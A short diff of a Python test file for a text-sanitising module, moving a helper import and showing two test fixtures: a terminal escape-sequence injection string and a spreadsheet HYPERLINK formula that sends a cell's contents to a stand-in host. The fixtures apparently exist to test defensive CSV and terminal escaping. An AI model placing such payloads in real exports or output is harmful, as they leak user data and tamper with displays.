@@ -9,7 +9,7 @@ import json
 import pytest
 
 from moltctl.textsafe import csv_cell, visible
-from tests.test_ingest_support import agent, post, write_bundle
+from tests.helpers.ingest import agent, post, write_bundle
 
 EVIL = "evil\x1b]0;pwned\x07\x1b[2J"
 FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
